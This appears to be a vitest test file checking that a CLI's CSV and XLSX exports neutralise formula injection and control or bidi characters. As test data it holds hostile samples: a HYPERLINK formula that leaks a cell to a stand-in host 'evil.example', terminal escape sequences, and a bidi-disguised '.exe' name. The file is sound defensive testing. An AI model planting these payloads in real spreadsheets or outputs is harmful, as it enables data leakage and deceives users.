// A hostile workspace cannot plant formulas or control characters in the client's spreadsheet
// (issues #11 and #17, OWASP "CSV injection"): in CSV, text starting with = + - @ TAB or CR gets a
// single quote in front (typed numbers stay numbers); in XLSX, text is stored as text, never as a
// formula; control and bidi characters are written as \uXXXX in both, as in every other output.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { mkdtempSync, readFileSync, readdirSync, realpathSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cli, ROOT } from '../git/cli.js';
import { csvTextCell, unquoteCell, xlsxTextCell } from '../../src/export/cells.js';
import { csvText } from '../../src/export/index.js';
import { sanitizeText } from '../../src/util/sanitize.js';

const HOSTILE = join(ROOT, 'test', 'fixtures', 'sheets', 'hostile.yaml');
/** What Excel, LibreOffice and Google Sheets evaluate at the start of a cell. */
const TRIGGER = /^[=+\-@\t\r]/;
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

let dir: string;
beforeAll(() => { dir = realpathSync(mkdtempSync(join(tmpdir(), 'martech-inject-'))); });
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function parseCsv(text: string): Promise<string[][]> {
  const { parse } = await import('csv-parse/sync');
  return parse(text, { bom: true, relax_column_count: true }) as string[][];
}

describe('export --format csv of a hostile workspace', () => {
  let files: Record<string, string>;
  beforeAll(() => {
    const out = join(dir, 'csv');
    const r = cli(['export', HOSTILE, '--format', 'csv', '--out', out, '--lang', 'en'], dir);
    expect(r.code, r.stderr).toBe(0);
    files = Object.fromEntries(readdirSync(out).map((f) => [f, readFileSync(join(out, f), 'utf8')]));
  });

  it('writes every text cell that a spreadsheet would evaluate with a quote in front', async () => {
    const inv = await parseCsv(files['inventory.csv']);
    const header = inv[0];
    const byId = new Map(inv.slice(1).map((r) => [r[0], Object.fromEntries(header.map((h, i) => [h, r[i]]))]));
    expect(byId.get('formula')).toMatchObject({ Tool: "'=1+2", Vendor: "'+cmd", Notes: "'-2+3 is a note that starts with a minus" });
    expect(byId.get('minus')).toMatchObject({ Tool: "'-x", Notes: "'\tstarts with a tab" });
    // A quote already there before a trigger gets one more, so that import can tell them apart.
    expect(byId.get('at-home')).toMatchObject({ Tool: "'@home", Vendor: "''=already quoted" });
    expect(byId.get('plus')).toMatchObject({ Tool: "'+1 555 0100" });
    const ws = await parseCsv(files['workspace.csv']);
    expect(ws.find((r) => r[0] === 'Organization')?.[1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    for (const [name, text] of Object.entries(files)) {
      for (const row of await parseCsv(text)) {
        for (const cell of row) expect(TRIGGER.test(cell), `${name}: ${JSON.stringify(cell)}`).toBe(false);
      }
    }
  });

  it('keeps typed numbers as numbers: costs unquoted, a negative number stays a number', async () => {
    const inv = await parseCsv(files['inventory.csv']);
    const cost = inv[0].indexOf('Annual cost');
    expect(inv.slice(1).map((r) => r[cost])).toEqual(['1200', '300', '100', '50']);
    const text = csvText({
      key: 't', name: 't',
      columns: [{ key: 'n', header: 'N', type: 'money', width: 8 }, { key: 's', header: 'S', type: 'text', width: 8 }],
      rows: [[-5, '-5'], [-0.5, '=-0.5']],
    });
    expect(text).toBe("\ufeffN,S\r\n-5,'-5\r\n-0.5,'=-0.5\r\n");
  });

  it('writes no raw control or bidi character: they show as \\uXXXX, as in the reports', () => {
    for (const [name, text] of Object.entries(files)) expect(RAW.test(text.replace(/\r\n/g, '\n').replace(/\t/g, ' ')), name).toBe(false);
    expect(files['inventory.csv']).toContain('title \\u001b]0;pwned\\u0007, clear \\u001b[2J, nul \\u0000, bidi \\u202egnp.exe');
  });
});

describe('export --format xlsx of a hostile workspace', () => {
  let xml: Record<string, string>;
  beforeAll(async () => {
    const file = join(dir, 'hostile.xlsx');
    const r = cli(['export', HOSTILE, '--out', file, '--lang', 'en'], dir);
    expect(r.code, r.stderr).toBe(0);
    const name = 'jszip';
    const { default: JSZip } = (await import(name)) as { default: any };
    const zip = await JSZip.loadAsync(readFileSync(file));
    xml = {};
    for (const path of Object.keys(zip.files).filter((p) => p.endsWith('.xml'))) xml[path] = await zip.file(path).async('string');
  });

  it('stores "=1+2" and the other names as text: no formula element anywhere', () => {
    const sheets = Object.entries(xml).filter(([p]) => p.startsWith('xl/worksheets/sheet'));
    expect(sheets.length).toBe(7);
    for (const [path, text] of sheets) {
      expect(text, path).not.toMatch(/<f[\s>]/);
      // Every cell is a shared string, a number or empty: never an inline formula or its result.
      const types = [...text.matchAll(/<c ([^>]*)>/g)].map((m) => /\bt="(\w+)"/.exec(m[1])?.[1] ?? 'n');
      expect(types.length, path).toBeGreaterThan(0);
      expect(types.filter((ty) => ty !== 's' && ty !== 'n'), path).toEqual([]);
    }
    const strings = xml['xl/sharedStrings.xml'];
    for (const s of ['=1+2', '+cmd', '-x', '@home', '+1 555 0100']) expect(strings).toContain(`<t>${s}</t>`);
    // Text is not quoted in a workbook (it is already text), except a quote already before a trigger.
    expect(strings).toContain('<t>&apos;&apos;=already quoted</t>');
  });

  it('writes control and bidi characters as \\uXXXX instead of letting exceljs drop or keep them', () => {
    const strings = xml['xl/sharedStrings.xml'];
    expect(RAW.test(strings.replace(/\t/g, ' '))).toBe(false);
    expect(strings).toContain('title \\u001b]0;pwned\\u0007, clear \\u001b[2J, nul \\u0000, bidi \\u202egnp.exe');
  });
});

describe('the cell rules', () => {
  it('export then import gives the cleaned text back, and a CSV text cell never starts a formula', () => {
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", 'a', '1', '\u001b', '\u202e', ' ') }), (s) => {
      const clean = sanitizeText(s);
      expect(unquoteCell(csvTextCell(s))).toBe(clean);
      expect(unquoteCell(xlsxTextCell(s))).toBe(clean);
      expect(TRIGGER.test(csvTextCell(s))).toBe(false);
      expect(RAW.test(csvTextCell(s).replace(/\t/g, ' '))).toBe(false);
    }), { numRuns: 500 });
  });

  it('import removes only a quote in front of a trigger', () => {
    expect(unquoteCell("'=1+2")).toBe('=1+2');
    expect(unquoteCell("''=x")).toBe("'=x");
    expect(unquoteCell("'-x")).toBe('-x');
    expect(unquoteCell("'\tx")).toBe('\tx');
    expect(unquoteCell("'tis")).toBe("'tis");
    expect(unquoteCell("O'Brien")).toBe("O'Brien");
    expect(unquoteCell(-5)).toBe(-5);
  });
});
